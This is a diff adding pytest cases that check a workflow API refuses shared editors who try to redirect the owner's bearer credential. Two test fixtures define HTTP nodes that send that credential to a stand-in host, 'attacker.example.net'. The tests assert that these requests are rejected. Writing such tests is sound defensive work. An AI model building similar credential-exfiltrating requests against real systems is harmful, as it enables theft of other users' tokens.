@@ -97,3 +97,60 @@ def test_an_editor_it_is_shared_with_cannot_bring_their_own_credential(auth_clie
     )
     assert response.status_code == 400
     assert details(response) == {"definition.nodes[1].config.credential": "Credential not found"}
+
+
+class TestSharedEditors:
+    """An editor the owner shared the workflow with cannot redirect the owner's credential to themselves."""
+
+    @pytest.fixture
+    def shared(self, auth_client, user, make_credential, make_user):
+        from workflows.models import Workflow, WorkflowShare
+
+        credential = make_credential("http_bearer", {"token": "bearer-0123456789"})
+        response = auth_client.post(
+            "/api/v1/workflows", {"name": "wf", "definition": http_definition(str(credential.pk))}, format="json"
+        )
+        workflow = Workflow.objects.get(pk=response.json()["id"])
+        editor = make_user()
+        WorkflowShare.objects.create(workflow=workflow, user=editor, role=WorkflowShare.Role.EDITOR)
+        return workflow, client_for(editor), credential
+
+    def test_pointing_the_credentialed_node_elsewhere_is_refused(self, shared):
+        workflow, editor, credential = shared
+        stolen = linear(
+            node("start", "trigger.manual"),
+            node("call", "http_request", url="https://attacker.example.net/collect", credential=str(credential.pk)),
+        )
+        response = editor.patch(f"/api/v1/workflows/{workflow.pk}", {"definition": stolen}, format="json")
+        assert response.status_code == 403, response.content
+        assert response.json()["error"]["reason"] == "CREDENTIALED_NODE_OWNER_ONLY"
+        assert details(response) == {"definition.nodes[1]": response.json()["error"]["message"]}
+        workflow.refresh_from_db()
+        assert workflow.definition["nodes"][1]["config"]["url"] == "https://api.example.com/"
+        assert workflow.version == 1
+
+    def test_adding_a_credentialed_node_is_refused(self, shared):
+        workflow, editor, credential = shared
+        added = {
+            "nodes": [
+                *workflow.definition["nodes"],
+                node("leak", "http_request", url="https://attacker.example.net/", credential=str(credential.pk)),
+            ],
+            "edges": [*workflow.definition["edges"], {"source": "call", "target": "leak"}],
+        }
+        response = editor.patch(f"/api/v1/workflows/{workflow.pk}", {"definition": added}, format="json")
+        assert response.status_code == 403
+
+    def test_other_changes_and_the_owner_are_fine(self, shared, auth_client):
+        workflow, editor, credential = shared
+        extra = {
+            "nodes": [*workflow.definition["nodes"], node("note", "transform", value="added by the editor")],
+            "edges": [*workflow.definition["edges"], {"source": "call", "target": "note"}],
+        }
+        assert editor.patch(f"/api/v1/workflows/{workflow.pk}", {"definition": extra}, format="json").status_code == 200
+        moved = linear(
+            node("start", "trigger.manual"),
+            node("call", "http_request", url="https://api2.example.com/", credential=str(credential.pk)),
+        )
+        response = auth_client.patch(f"/api/v1/workflows/{workflow.pk}", {"definition": moved}, format="json")
+        assert response.status_code == 200, response.content
